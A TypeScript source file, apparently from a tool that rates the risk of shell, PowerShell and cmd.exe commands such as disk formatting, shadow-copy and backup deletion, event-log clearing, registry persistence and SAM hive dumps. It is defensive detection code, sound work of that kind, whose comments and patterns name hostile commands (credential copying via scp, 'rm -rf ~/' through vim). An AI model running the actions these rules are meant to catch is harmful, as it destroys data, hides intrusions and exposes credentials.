  if ((cmd.name === 'enable-netfirewallrule' || (cmd.name === 'set-netfirewallrule' && /-(?:action\s+['"]?allow|enabled\s+['"]?true)\b/.test(j))) ) {
    const src = `${j} ${cmd.pipeIn ? cmd.pipeIn.args.join(' ').toLowerCase() : ''}`;
    if (/remote desktop|remotedesktop|rdp|3389|remote management|winrm|5985|5986|\bssh\b|\b22\b|file and printer sharing|\bsmb\b|\b445\b/.test(src) || (cmd.name === 'set-netfirewallrule' && !!cmd.pipeIn && !/-(?:name|displayname)\s/.test(src))) return [f('dangerous', `opens the machine's firewall to remote access (${how})`)];
    return [f('destructive', `enables a firewall rule that lets traffic in (${how})`, true)];
  }
  // (cls-shell18) A share opened to everyone (Grant-SmbShareAccess -AccountName Everyone, New-SmbShare -FullAccess Everyone).
  if (/^(?:grant-smbshareaccess|new-smbshare|set-smbshare)$/.test(cmd.name) && /(?:-accountname|-fullaccess|-changeaccess|-readaccess)\s+['"]?(?:everyone|authenticated users|domain users|anonymous logon|guests)\b/.test(j)) return [f('dangerous', `shares a folder with everyone (${how})`)];
  // Opening a port to every address (Grant-EC2SecurityGroupIngress, New-NetFirewallRule, Add-AzNetworkSecurityRuleConfig).
  if (/ingress|firewallrule|securityrule|inbound/.test(noun) && (verb === 'grant' || verb === 'new' || verb === 'add' || verb === 'set')) {
    if (/0\.0\.0\.0\/0|::\/0|-sourceaddressprefix\s+['"]?(?:\*|internet|any)\b|-remoteaddress\s+['"]?any\b/.test(j)) return [f('dangerous', `opens a port to every address on the internet (${how})`)];
    return [f('destructive', `opens a port to named sources (${how})`, true)];
  }
  // An ARM/Bicep template deployment (New-AzResourceGroupDeployment, New-AzDeployment, New-AzSubscriptionDeployment …)
  // changes what runs, as `az deployment … create` does; Complete mode also deletes what the template leaves out.
  // -WhatIf previews only.
  if (verb === 'new' && /^az(?:resourcegroup|subscription|managementgroup|tenant)?deployment(?:stack)?$/.test(noun)) {
    if (/-whatif\b/.test(j)) return [f('safe', `previews a template deployment (${how})`)];
    const complete = /-mode\s+['"]?complete\b/.test(j) || /-actiononunmanage\s+['"]?delete/.test(j);
    return [ladder('dangerous', 'destructive', 'reversible', `deploys a template${complete ? ' in Complete mode: resources missing from it are deleted' : ''} (${how})`)];
  }
  // Write-Host and friends print; Write-S3Object, Write-CWLRetentionPolicy (AWS Tools) change a service.
  const writesService = verb === 'write' && !/^(?:host|output|verbose|debug|warning|error|information|progress|eventlog|log|sqlerror)$/.test(noun);
  // (cls-code16) The environment drive listed whole (Get-ChildItem Env:) prints every variable, as env does.
  // Piped on to keep only the names or a count (Select-Object -ExpandProperty Name, Measure-Object), no value is printed.
  if (verb === 'get' && (noun === 'childitem' || noun === 'item') && cmd.args.some((a) => /^env:[\\/]?\*?$/i.test(a)) && !/^(?:select-object|select)\s+(?:-expandproperty\s+|-property\s+)?["']?(?:name|key)["']?\s*$|^(?:measure-object|measure)\b|^(?:foreach-object|%)\s+(?:name|key|\{\s*\$_\.(?:name|key)\s*\})\s*$/i.test(cmd.pipeOut?.text ?? '')) return [readSecret(`prints every environment variable, including any secrets, into the transcript (${how})`, true)];
  if (CMDLET_SAFE_VERBS.has(verb) && !writesService) return [f('safe', `read-only PowerShell command (${how})`)];
  // Clear-Host (cls) only clears the console window.
  if (cmd.name === 'clear-host') return [f('safe', `clears the console window (${how})`)];
  // Turning a setting off: Set-X -…Enabled $false, -Enabled:$false.
  let v = writesService ? 'update' : CMDLET_VERB[verb] ?? 'update';
  // -AuditEnabled $false: the setting turned off is what the parameter names.
  const offParam = /-(\w*(?:enabled?|ingestion\w*))(?::|\s+)(?:\$false|false|0)\b/.exec(j) ?? /-(\w*disabled?)(?::|\s+)(?:\$true|true|1)\b/.exec(j);
  if ((verb === 'set' || verb === 'update') && offParam) v = 'disable';
  if (verb === 'set' && /-permission\s+(?:blob|container)\b|-publicaccess\s+(?:blob|container)\b|-allowblobpublicaccess\s+\$true/.test(j)) v = 'expose';
  const words = splitName(cmd.rawName.split('-').slice(1).join('-'));
  const op = readOp(words);
  let obj = op.obj ?? 'unknown';
  // (cls-shell18) Invoke-<Module><Action><Object> (Invoke-MgWipeDeviceManagementManagedDevice, Invoke-MgRetire…): the
  // action is the first verb of the noun, as Remove-/Clear- would be.
  if (verb === 'invoke' && v === 'run' && op.verb && op.verb !== 'click' && op.verb !== 'read' && op.verb !== 'run') v = op.verb;
  // (lead20) Intune's Retire removes the company's data and management from one device and leaves the owner's data: not a
  // wipe of the whole device.
  if (verb === 'invoke' && /^invoke-mgretire\w*manageddevice$/i.test(cmd.rawName)) return [f('destructive', `retires one managed device: company data and management removed, the device kept (${snippet(cmd.text, 60)})`, true)];
  if (/^(?:spo|pnp)?(?:site|web|tenant)$|^spo(?:deleted)?site$|^team$|^unifiedgroup$/.test(noun)) obj = 'whole';
  if (/deleted/.test(noun) && v === 'delete') v = 'delete';
  if (/^(?:compliancesearchaction)$/.test(noun) && /-purge/.test(j)) v = 'delete';
  if (offParam && v === 'disable') {
    const po = readOp(splitName(cmd.args.find((x) => x.toLowerCase().startsWith(`-${offParam[1]}`))?.slice(1) ?? '')).obj;
    if (po && po !== 'account') obj = po;
  }
  if (/audit/.test(noun) && v === 'disable') obj = 'audit';
  // (cls-shell18) The parameter switched off names audit logging (Set-OrganizationConfig -AuditDisabled $true).
  if (offParam && v === 'disable' && /audit/.test(offParam[1] ?? '')) obj = 'audit';
  // Active Directory: userAccountControl with the ACCOUNTDISABLE bit (2) set disables the account; -Enabled $false likewise.
  const uac = /useraccountcontrol\s*=\s*(\d+)/.exec(j);
  if (uac && (Number(uac[1]) & 2) !== 0) v = 'suspend';
  if (v === 'disable' && /(?:^|-)(?:ad|az|mg|msol|local)?(?:user|account|computer)$/.test(noun)) v = 'suspend';
  // (cls-shell18) A member taken out of a group (Remove-ADGroupMember, Remove-LocalGroupMember, Remove-MgGroupMemberByRef)
  // loses that group's access; the account itself stays.
  if (v === 'delete' && /groupmember/.test(noun)) v = 'revoke';
  // Adding a member, role or permission is a grant; to an administrators group it is an admin grant.
  let mods = 0;
  if (/member|roleassignment|role$|permission|delegat|accessright|acl$|accessrule/.test(noun) && (v === 'create' || v === 'update' || v === 'grant')) {
    v = 'grant';
    if (ADMIN_PRINCIPAL.test(j)) mods |= M.ADMIN;
  }
  // Scope: a Get-… pipeline or a ForEach loop feeds every item; -ExchangeLocation All is everything.
  let scope: 'one' | 'some' | 'all' = 'one';
  if (cmd.bulk || cmd.pipeIn) {
    // Get-X | Verb-X: an unfiltered listing (or -Filter *) feeds every item; a filter, some; a name, one.
    const src = cmd.pipeIn;
    const sa = src ? src.args.join(' ') : '';
    if (src && /^get-/.test(src.name)) scope = /-(?:name|identity|id)\b/i.test(sa) ? 'one' : /-(?:filter|ldapfilter|searchbase|where)\s+(?!['"]?\*['"]?(?:\s|$))/i.test(sa) || (psPositionals(src.args).length > 0 && !/-filter\s+['"]?\*/i.test(sa)) ? 'some' : 'all';
    else scope = 'some';
  }
  // (cls-holes18) Members given as a listing in a sub-expression (Remove-ADGroupMember 'VPN Users' -Members (Get-ADGroupMember
  // 'VPN Users')): the many people that listing gives — not one person (a group's members are not every account).
  if (scope === 'one' && /-members?\s+\(\s*get-[\w-]*(?:member|user)s?\b/i.test(cmd.text)) scope = 'some';
  if (/\ball\b/.test(j) && /location|scope|mailbox/.test(j)) scope = 'all';
  if (cmd.name === 'new-compliancesearchaction' && /-purge/.test(j)) return [f('forbidden', `hard-deletes the mail a compliance search found, across mailboxes (${how})`)];
  // A cloud module's storage noun (Remove-AzStorageContainer, Remove-AzStorageShare, Remove-S3Bucket, Remove-GcsBucket):
  // a whole container of data, as the same delete through the cloud CLI; named for backups, every backup in it.
  if (v === 'delete' && (obj === 'unknown' || obj === 'resource' || obj === 'container') && /^(?:az|s3|gcs|aws)?(?:storage|datalakegen2)?(?:container|share|bucket|filesystem)$/.test(noun) && /^(?:az|s3|gcs|aws)|storage/.test(noun)) {
    const name = /-(?:name|bucketname|bucket|container|sharename)\s+['"]?([\w.-]+)/.exec(j)?.[1] ?? '';
    obj = /backup|snapshot/.test(name) ? 'backup' : 'bucket';
    scope = 'all';
  }
  if (/-force\b/.test(j) || /-confirm:\$false/.test(j)) mods |= M.FORCE;
  if (/deleted/.test(noun) || /-permanent|-purgetype\s+harddelete/.test(j)) mods |= M.PERMANENT;
  if (v === 'expose') mods |= M.PUBLIC;
  const x = judge({ verb: v as Verb, obj, scope, mods, what: how });
  return x ? [x] : [f('reversible', `PowerShell change (${how})`)];
};

/** (cls-shell19) Principals that stand for every person: putting one in a group gives every person its rights. */
const BROAD_PRINCIPAL = /[\s'"\\](?:everyone|authenticated users|domain users|interactive|anonymous logon|s-1-1-0|s-1-5-11)[\s'"]/i;

/** (cls-en17) Windows groups whose members administer the machine or the domain. */
const NET_ADMIN_GROUP = /^(?:administrators|domain admins|enterprise admins|schema admins|account operators|backup operators|server operators|dnsadmins|key admins|enterprise key admins|hyper-v administrators|[\w -]*admins)$/i;

const windowsDanger: Handler = (cmd) => {
  const how = snippet(cmd.text, 50);
  const a = cmd.args.map((x) => x.toLowerCase());
  switch (cmd.name) {
    case 'diskpart':
      // (lead15) A script fed on stdin that only lists, selects and shows details changes no disk (echo list disk | diskpart).
      if (cmd.stdin !== undefined && cmd.stdin.split(/\r?\n|&|;/).every((l) => /^\s*(?:(?:list|lis|detail|det|select|sel|rescan|help|exit|filesystems|rem)\b.*)?$/i.test(l))) return [f('safe', `shows the disk layout (${how})`)];
      return [f('forbidden', `formats or repartitions a disk (${how})`)];
    case 'format':
      return [f('forbidden', `formats or repartitions a disk (${how})`)];
    case 'wbadmin': {
      if (a[0] !== 'delete') return [f(a[0] === 'start' ? 'reversible' : 'safe', `${a[0] === 'start' ? 'runs a backup or recovery' : 'reads backup information'} (${how})`)];
      if (a[1] === 'catalog') return [f('forbidden', `deletes the backup catalog; every backup becomes unusable (${how})`)];
      const keep = /-keepversions?:(\d+)/.exec(a.join(' '));
      if (keep && Number(keep[1]) === 0) return [f('forbidden', `deletes every backup (${how})`)];
      if (keep) return [f('dangerous', `deletes all but the newest ${keep[1]} backups (${how})`)];
      if (a.includes('-deleteoldest')) return [f('destructive', `deletes the oldest backup while newer ones remain (${how})`)];
      return [f('dangerous', `deletes backups (${how})`)];
    }
    case 'vssadmin':
      return a[0] === 'delete' || a[0] === 'resize' ? [f('forbidden', `deletes the volume shadow copies (backups) (${how})`)] : [f('safe', `lists shadow copies (${how})`)];
    case 'wevtutil':
      if (a[0] === 'cl' || a[0] === 'clear-log') return [f('forbidden', `clears Windows event logs (${how})`)];
      // set-log: a smaller maximum size (/ms:), overwriting or a log switched off shortens what is kept.
      if ((a[0] === 'sl' || a[0] === 'set-log') && a.some((x) => /^\/(?:ms|maxsize|e|enabled|rt|retention):/i.test(x))) return [f(a.some((x) => /^\/(?:e|enabled):false$/i.test(x)) && /security/i.test(a[1] ?? '') ? 'forbidden' : 'dangerous', `changes how much of an event log is kept (${how})`)];
      return [f('safe', `reads event logs (${how})`)];
    case 'auditpol':
      // /clear, /remove or a category set to no auditing: the audit policy that makes the Security log is gone.
      if (a.some((x) => /^\/(?:clear|remove)$/i.test(x)) || a.some((x) => /^\/(?:success|failure):disable$/i.test(x))) return [f('forbidden', `switches off Windows audit policy (${how})`)];
      if (a.some((x) => /^\/(?:get|list|backup)$/i.test(x))) return [f('safe', `reads the audit policy (${how})`)];
      return [f('dangerous', `changes the audit policy (${how})`)];
    case 'bcdedit':
      return a.length === 0 || a[0] === '/enum' ? [f('safe', 'shows boot configuration')] : [f('dangerous', `changes the boot configuration (${how})`)];
    case 'cipher':
      // (cls-benign19) /w overwrites only the free space of the volume: no file in use is touched (cls-shell18's label: advisory).
      return a.some((x) => /^\/w/i.test(x)) ? [f('reversible', `overwrites free disk space; no live file is touched (${how})`)] : [f('reversible', `changes file encryption (${how})`)];
    case 'reg': {
      // (lead15) The SAM, SECURITY and SYSTEM hives hold the local password hashes and the key that opens them.
      if ((a[0] === 'save' || a[0] === 'export') && /^(?:HKLM|HKEY_LOCAL_MACHINE)\\?(?:SAM|SECURITY|SYSTEM)$/i.test(cmd.args[1] ?? '')) return [f('dangerous', `copies the local password hash database to a file (${how})`)];
      if (a[0] === 'query' || a[0] === 'export') return [f('safe', `reads the registry (${how})`)];
      const vi = a.indexOf('/v');
      const di = a.indexOf('/d');
      const found = registryChange(cmd.args[1] ?? '', vi > 0 ? (cmd.args[vi + 1] ?? '') : '', di > 0 ? (cmd.args[di + 1] ?? '') : '', a[0] === 'delete', how);
      if (found) return [found];
      if (a[0] === 'delete') return [f('dangerous', `deletes registry keys (${how})`)];
      return [registryFallback(cmd.args[1] ?? '', how)];
    }
    case 'taskkill':
      return [f('destructive', `terminates processes (${how})`, true)];
    case 'icacls':
    case 'takeown':
      if (cmd.name === 'icacls' && !a.some((x) => /^\/(grant|deny|remove|reset|setowner|setintegritylevel|inheritance|restore)/.test(x))) return [f('safe', `shows access permissions (${how})`)];
      return a.some((x) => x === '/t' || x === '/r') ? [f('dangerous', `changes permissions recursively (${how})`)] : [f('destructive', `changes permissions (${how})`, true)];
    case 'net': {
      if (a[0] === 'user' && (a.includes('/delete') || a.includes('/del'))) return [accountDeleted(how, false)];
      if (a[0] === 'stop') {
        // (cls-shell18) net stop WinDefend / EventLog: a security control or the event record stopped.
        const o = winServiceObj(a.slice(1).filter((x) => !x.startsWith('/')).join(' '));
        if (o) return [judge({ verb: 'stop', obj: o, scope: 'one', mods: 0, what: how }) as Finding];
        return [f('destructive', `stops a service (${how})`, true)];
      }
      // (cls-en17) Accounts, groups, shares and the password policy changed through `net`, in any order of its switches.
      const words = cmd.args.filter((x) => !x.startsWith('/'));
      if ((a[0] === 'localgroup' || a[0] === 'group') && (a.includes('/add') || a.includes('/delete') || a.includes('/del')) && words.length >= 3) {
        if (a.includes('/add') && NET_ADMIN_GROUP.test(words[1] ?? '')) return [f('dangerous', `grants administrator rights (${how})`)];
        if (a.includes('/add') && BROAD_PRINCIPAL.test(` ${words.slice(2).join(' ')} `)) return [f('dangerous', `gives everyone the rights of a group (${how})`)];
        return [f('destructive', `changes a group's members (${how})`, true)];
      }
      if (a[0] === 'user' && words.length >= 2) {
        const name = words[1] ?? '';
        const builtIn = /^(?:administrator|admin|guest|root|krbtgt)$/i.test(name);
        if (a.some((x) => x === '/active:yes') && builtIn) return [f('dangerous', `enables a built-in administrator or guest account (${how})`)];
        if (a.includes('/add')) return [f('destructive', `creates a user account (${how})`, true)];
        // (cls-shell19) `net user x ""` or /passwordreq:no: an account anyone can sign in to, as `passwd -d` reads.
        if ((words.length >= 3 && words[2] === '') || a.some((x) => /^\/passwordreq:no$/i.test(x))) return [f('dangerous', `leaves an account with no password (${how})`, true)];
        if (words.length >= 3 || a.some((x) => /^\/(?:active|passwordreq|expires|times|passwordchg)(?::|$)/.test(x))) return [f(builtIn ? 'dangerous' : 'destructive', `${builtIn ? 'changes a built-in administrator account' : 'changes a user account: its password or state'} (${how})`, true)];
      }
      if (a[0] === 'accounts' && a.some((x) => /^\/(?:minpwlen:[0-7]|maxpwage:unlimited|lockoutthreshold:0|uniquepw:0)$/.test(x))) return [f('dangerous', `weakens the password policy (${how})`)];
      if (a[0] === 'share' && a.some((x) => /^\/grant:everyone\b/.test(x))) return [f('dangerous', `shares a folder with everyone (${how})`)];
      if (a[0] === 'share' && (a.includes('/delete') || a.some((x) => /=/.test(x)))) return [f('destructive', `adds or removes a network share (${how})`, true)];
      return [f('safe', `network or account information (${how})`)];
    }
    case 'msiexec': {
      // (cls-shell19) msiexec /x (/uninstall) removes installed software; a security agent named removes that control.
      if (!a.some((x) => /^[/-](?:x|uninstall)$/i.test(x))) return [];
      if (SECURITY_PACKAGE.test(` ${cmd.args.join(' ')} `)) return [f('dangerous', `removes a security or audit agent, so that control stops (${how})`)];
      return [f('destructive', `uninstalls software${a.some((x) => /^\/q[nb]?/i.test(x)) ? ' silently' : ''} (${how})`, true)];
    }
    case 'sc': {
      // sc \\host verb service: the first argument may name a remote machine.
      const host = a[0]?.startsWith('\\') ? a[0].replace(/^\\+/, '') : '';
      const v = (host ? a[1] : a[0]) ?? '';
      const x = ((): Finding => {
        // (cls-shell18) sc stop|config … start= disabled|delete WinDefend / EventLog: a security control or the event record off.
        const o = winServiceObj((host ? a[2] : a[1]) ?? '');
        if (o && (v === 'stop' || v === 'pause' || v === 'delete' || (v === 'config' && a.some((x, i) => /^start=/i.test(x) && /disabled/i.test(x + (a[i + 1] ?? '')))))) return judge({ verb: 'stop', obj: o, scope: 'one', mods: 0, what: how }) as Finding;
        if (v === 'delete') return f('dangerous', `deletes a service (${how})`);
        if (v === 'stop' || v === 'config' || v === 'pause') return f('destructive', `stops or reconfigures a service (${how})`, true);
        if (v === 'start' || v === 'continue') return f('destructive', `starts a service (${how})`);
        return f('safe', `queries services (${how})`);
      })();
      const e = host ? detectEnv(host).env : 'unknown';
      if (e !== 'unknown') x.env = e;
      return [x];
    }
  }
  return [];
};

/**
 * A registry write judged by what the key does: Run / RunOnce / Winlogon /
 * services are start-up entries; policy, Defender, firewall, LSA and UAC
 * values that turn a protection off weaken a security control.
 */
export function registryChange(key: string, name: string, data: string, del: boolean, how: string): Finding | null {
  const k = key.toLowerCase().replace(/\//g, '\\');
  const n = name.toLowerCase();
  const d = data.toLowerCase().replace(/^0x0*(?=\d)/, '');
  if (/\\(?:run|runonce|runservices|runonceex)(?:\\|$)|\\winlogon(?:\\|$)|image file execution options|\\currentcontrolset\\services\\|\\explorer\\shell folders|\\appinit_dlls|\\startup/.test(k) || n === 'appinit_dlls' || n === 'userinit' || n === 'shell') {
    return f('dangerous', `${del ? 'removes' : 'adds or changes'} a start-up entry that runs at every logon or boot (${how})`);
  }
  const security = /\\policies\\|windows defender|\\firewall|\\lsa(?:\\|$)|securityproviders|\\terminal server|\\windowsupdate|\\system\\currentcontrolset\\control\\(?:lsa|securepipeservers|deviceguard)|\\smartscreen|\\bitlocker|\\credssp|wdigest/.test(k);
  const turnsOff = (/^(?:enable|enabled|enablelua|enablefirewall|requiresignature|require\w*|audit\w*|consentpromptbehavior\w*|restrictanonymous\w*|runasppl|lsacfgflags)/.test(n) && /^(?:0|false|off)$/.test(d)) || (/^(?:disable|disabled|no\w*|allow\w*|uselogoncredential|localaccounttokenfilterpolicy|fdenytsconnections)/.test(n) && /^(?:1|true|on)$/.test(d) && n !== 'fdenytsconnections') || (n === 'fdenytsconnections' && d === '0');
  // (cls-shell18) LM/NTLMv1 authentication let back in (LmCompatibilityLevel below 3, NoLMHash 0), SMB signing not required.
  const lowered = (n === 'lmcompatibilitylevel' && /^[0-2]$/.test(d)) || (/^(?:nolmhash|requiresecuritysignature|enablesecuritysignature|requirestrongkey|sealsecurechannel|signsecurechannel)$/.test(n) && /^(?:0|false)$/.test(d));
  if ((security || /\\lanmanserver\\|\\lanmanworkstation\\|\\netlogon\\/.test(k)) && (turnsOff || lowered || del)) return f('dangerous', `turns off an operating-system protection in the registry (${how})`);
  return null;
}

// ------------------------------------------------------------------ registry

/** robocopy: /MIR and /PURGE delete what the source lacks, so mirroring an empty folder empties the target. */
const robocopy: Handler = (cmd) => {
  const a = cmd.args;
  const lower = a.map((x) => x.toLowerCase());
  const how = snippet(cmd.text, 60);
  if (lower.includes('/l')) return [f('safe', `lists what robocopy would copy; nothing changes (/L) (${how})`)];
  const [src = '', dst = ''] = a.filter((x) => !x.startsWith('/'));
  const mirror = lower.some((x) => x === '/mir' || x === '/purge');
  const moves = lower.some((x) => x === '/mov' || x === '/move');
  if (!mirror) return [f(moves ? 'destructive' : 'reversible', `${moves ? 'moves' : 'copies'} files (${how})`, moves)];
  const target = dst.replace(/\\/g, '/');
  if (/(?:^|[\\/])(?:empty|blank|null|nothing|void)[\w-]*[\\/]?$/i.test(src)) {
    // The root of a network share or a drive is all the storage it holds.
    if (/^\/\/[^/]+\/[^/]+\/?$/.test(target) || /^[a-z]:\/?$/i.test(target)) return [f('forbidden', `mirrors an empty folder over ${dst}: every file on that share or drive is deleted (${how})`)];
    return deletionFinding([target], true, true, how, cmd.sudo);
  }
  return [f('destructive', `mirrors ${src} to ${dst}: files in the target that the source lacks are deleted (${how})`, true)];
};

export const shellHandlers: Record<string, Handler> = {
  // (lead17) vim/nvim/vi/ex given an ex command that runs the shell (-c ':!rm -rf ~/', +'!cmd').
  vim: editorEx, nvim: editorEx, vi: editorEx, ex: editorEx,
  robocopy,
  rm,
  unlink: rm,
  rimraf: (cmd) => deletionFinding(positionals(cmd.args), true, true, snippet(cmd.text, 50), cmd.sudo),
  trash: (cmd) => positionals(cmd.args).map((p) => f('reversible', `moves ${p} to the trash`)),
  'trash-put': (cmd) => positionals(cmd.args).map((p) => f('reversible', `moves ${p} to the trash`)),
  rmdir,
  rd: rmdir,
  del,
  erase: del,
  find,
  shred,
  srm: shred,
  wipe: shred,
  dd,
  mkfs,
  mke2fs: mkfs,
  fdisk: (cmd) => (cmd.args.includes('-l') ? [f('safe', 'lists partitions')] : mkfs(cmd, undefined as never)),
  sfdisk: mkfs,
  parted: (cmd) => (cmd.args.includes('-l') || cmd.args.includes('print') ? [f('safe', 'lists partitions')] : mkfs(cmd, undefined as never)),
  wipefs: mkfs,
  sgdisk: mkfs,
  blkdiscard: mkfs,
  truncate,
  ':': nullCmd,
  chmod,
  // (cls-interp21) setfacl -m o::rwx / other:…w (every other user given write), read as chmod o+w on the same targets.
  setfacl: (cmd, ctx) => {
    const a = cmd.args;
    const specs = a.filter((_x, i) => i > 0 && /^(?:-[a-zA-Z]*m|--modify|-[a-zA-Z]*M)$/.test(a[i - 1] as string)).concat(a.filter((x) => /^--modify=/.test(x)).map((x) => x.slice(9)));
    const opens = specs.some((sp) => sp.split(',').some((e) => /^(?:o|other)::?[rwxX-]*w/.test(e.trim())));
    if (!opens) return [];
    const targets = positionals(a.filter((_x, i) => !(i > 0 && /^(?:-[a-zA-Z]*m|--modify|-[a-zA-Z]*M)$/.test(a[i - 1] as string))));
    return chmod({ ...cmd, name: 'chmod', args: [...(a.some((x) => /^-[a-zA-Z]*R|^--recursive$/.test(x)) ? ['-R'] : []), 'o+rwx', ...targets] }, ctx).map((x) => ({ ...x, reason: `${x.reason} (an ACL entry for every other user: setfacl)` }));
  },
  chown,
  chgrp: chown,
  mv,
  move: mv,
  cp,
  copy: cp,
  ln,
  sed,
  perl,
  tee,
  rsync,
  kill,
  'kill-port': killPort,
  fkill: killPort,
  pkill: kill,
  killall: kill,
  killall5: kill,
  shutdown: power,
  reboot: power,
  halt: power,
  poweroff: power,
  init: (cmd) => (/^[06]$/.test(cmd.args[0] ?? '') ? power(cmd, undefined as never) : []),
  systemctl,
  service: systemctl,
  iptables: firewall,
  ip6tables: firewall,
  nft: firewall,
  ufw: firewall,
  pfctl: firewall,
  setenforce: firewall,
  history: historyCmd,
  userdel: users,
  deluser: users,
  passwd: users,
  usermod: users,
  useradd: users,
  adduser: users,
  gpasswd: users,
  gpg,
  gpg2: gpg,
  'pre-commit': hookManager,
  husky: hookManager,
  lefthook: hookManager,
  visudo: users,
  chpasswd: users,
  format: windowsDanger,
  msiexec: windowsDanger,
  diskpart: windowsDanger,
  vssadmin: windowsDanger,
  wevtutil: windowsDanger,
  auditpol: windowsDanger,
  bcdedit: windowsDanger,
  cipher: windowsDanger,
  reg: windowsDanger,
  taskkill: windowsDanger,
  icacls: windowsDanger,
  takeown: windowsDanger,
  net: windowsDanger,
  sc: windowsDanger,
  wbadmin: windowsDanger,
  curl: networkCmd,
  https: networkCmd,
  xh: networkCmd,
  curlie: networkCmd,
  wget: networkCmd,
  http: networkCmd,
  iwr: networkCmd,
  irm: networkCmd,
  printenv,
  env: printenv,
  echo: echoLike,
  printf: echoLike,
  true: echoLike,
  sh: shellC,
  bash: shellC,
  zsh: shellC,
  dash: shellC,
  ksh: shellC,
  fish: shellC,
  pwsh: shellC,
  powershell: shellC,
  cmd: shellC,
  ssh: (cmd, ctx) => {
    const pos = positionals(cmd.args, ['-i', '-p', '-l', '-o', '-F', '-J', '-L', '-R', '-D', '-W', '-b', '-c', '-e', '-m', '-S', '-w', '-E', '-B', '-O', '-Q']);
    // (cls-holes17) Options after the host belong to the remote command (`ssh host crontab -l`), not to ssh.
    let hi = 0;
    while (hi < cmd.args.length && (cmd.args[hi] as string).startsWith('-')) hi += SSH_OPTS_VALUED.has(cmd.args[hi] as string) ? 2 : 1;
    const line = hi < cmd.args.length ? cmd.args.slice(hi + 1).join(' ') : pos.slice(1).join(' ');
    // Data piped into ssh (docker save img | ssh host docker load, tar c dir | ssh host 'cat > x', pg_dump | gzip | ssh …)
    // is copied to that machine, like scp.
    // (cls-shell18) Not when xargs or parallel runs ssh: they read the pipe as the host names to run it on.
    const fed = cmd.pipeIn && DATA_PRODUCERS.has(cmd.pipeIn.name) && !cmd.via.some((v) => /^(?:xargs|parallel)\b/.test(v)) ? [leavesMachine(cmd)] : [];
    // (cls-holes17) A network device's own command line is read as the device's (rules/netos.ts), and a crontab
    // installed there from stdin (`(crontab -l; echo '…') | ssh host crontab -`) is read for the job it adds.
    if (line && NETOS_LEAD.test(line.trim())) return [...fed, ...ctx.inner(`netos-cli '${line.replace(/'/g, `'\\''`)}'`)];
    if (/^(?:sudo\s+)?crontab(?:\s+-u\s+\S+)?\s+-$/.test(line.trim())) {
      const piped = cmd.stdin ?? (cmd.pipeIn && (cmd.pipeIn.name === 'echo' || cmd.pipeIn.name === 'printf') ? cmd.pipeIn.args.filter((x) => !x.startsWith('-')).join(' ') : undefined);
      if (piped && !piped.includes('CRONTAB_IN')) return [...fed, ...ctx.inner(`${line.trim()} <<'CRONTAB_IN'\n${piped}\nCRONTAB_IN`)];
    }
    return line ? [...fed, ...ctx.inner(line)] : [...fed, f('reversible', `opens a remote shell (${snippet(cmd.text, 40)})`)];
  },
  scp: (cmd) => {
    const pos = positionals(cmd.args, ['-i', '-P', '-o', '-F', '-l', '-c', '-S', '-J']);
    const srcSecret = pos.slice(0, -1).some((p) => pathKind(p) === 'secret');
    const remoteDest = /^[^/]*@?[\w.-]+:/.test(pos[pos.length - 1] ?? '');
    if (srcSecret && remoteDest) return [f('forbidden', `copies a credentials file to a remote host (${snippet(cmd.text, 50)})`)];
    // Settled: whatever leaves the machine is at least destructive; a download stays here.
    if (remoteDest) return [leavesMachine(cmd)];
    const down = prodDownload(pos.slice(0, -1));
    if (down) return [down(cmd.text)];
    return [f('reversible', `copies files over SSH (${snippet(cmd.text, 50)})`)];
  },
  diskutil: (cmd) => {
    const sub = (cmd.args[0] ?? '').toLowerCase();
    const how = snippet(cmd.text, 60);
    if (/^(erasedisk|zerodisk|randomdisk|secureerase|partitiondisk|erasevolume|reformat)$/.test(sub) || (sub === 'apfs' && /^(deletecontainer|erasevolume|deletevolume)$/i.test(cmd.args[1] ?? ''))) return [f('forbidden', `erases a whole disk or volume (${how})`)];
    if (/^(list|info|activity|listfilesystems|verifydisk|verifyvolume|apfs)$/.test(sub)) return [f('safe', `reads disk information (${how})`)];
    if (/^(unmount|unmountdisk|eject|mount|mountdisk)$/.test(sub)) return [f('reversible', `mounts or unmounts a disk (${how})`)];
    return [unplacedRun('reversible', `diskutil ${sub} (${how})`)];
  },
  cat: (cmd) => readsFiles(cmd),
  less: (cmd) => readsFiles(cmd),
  more: (cmd) => readsFiles(cmd),
  head: (cmd) => readsFiles(cmd),
  tail: (cmd) => readsFiles(cmd),
  bat: (cmd) => readsFiles(cmd),
  type: (cmd) => readsFiles(cmd),
  base64: (cmd) => (cmd.pipeIn && cmd.args.some((x) => x === '-d' || x === '--decode' || x === '-D') && /secret|password|token|key|cred/i.test(cmd.pipeIn.text) ? [f('destructive', 'decodes secret material to plain text')] : []),
  createdb: (cmd) => [f('reversible', `creates a database (${snippet(cmd.text, 50)})`, true)],
  pg_restore: (cmd) => (cmd.args.some((a) => a === '--clean' || a === '-c' || /^-[a-zA-Z]*c/.test(a)) ? [f('destructive', `restores a dump over the existing database, dropping objects first (${snippet(cmd.text, 50)})`, true)] : [f('reversible', `restores a dump (${snippet(cmd.text, 50)})`, true)]),
  mongorestore: (cmd) => (cmd.args.includes('--drop') ? [f('destructive', `drops collections before restoring them (${snippet(cmd.text, 50)})`, true)] : [f('reversible', `restores a dump (${snippet(cmd.text, 50)})`, true)]),
  tar: (cmd) => {
    const a = cmd.args.join(' ');
    if (/(^|\s)(-[a-zA-Z]*x|--extract|x[a-zA-Z]*f)/.test(a)) {
      const dir = /(?:-C|--directory)[= ]?(\S+)/.exec(a)?.[1];
      if (dir && (pathKind(dir) === 'root' || pathKind(dir) === 'system')) return [f('dangerous', `extracts an archive over system files (${dir})`)];
      return [f('reversible', `extracts an archive (${snippet(cmd.text, 50)})`)];
    }
    if (/--delete/.test(a)) return [f('destructive', `deletes files from an archive (${snippet(cmd.text, 50)})`)];
    return [];
  },
  mkdir: (cmd) => [f('reversible', `creates a directory (${snippet(cmd.text, 50)})`)],
  touch: (cmd) => [f('reversible', `creates or touches files (${snippet(cmd.text, 50)})`)],
  'new-item': (cmd) => [f('reversible', `creates a new item (${snippet(cmd.text, 50)})`)],
};

export { redirectFindings, cmdlet, isExternalUrl };
export const READ_ONLY_COMMANDS = READ_ONLY;

export const shellFamily = commandFamily(
  'shell',
  'files, disks, permissions, processes, services, firewalls, users, logs and the network on POSIX, PowerShell and cmd.exe (rm, find -delete, dd, mkfs, chmod, mv onto critical files, rsync --delete, kill, systemctl, ufw, crontab, curl/wget uploads, secrets piped out, vssadmin, wevtutil, Remove-Item …)',
  shellHandlers,
  true,
);
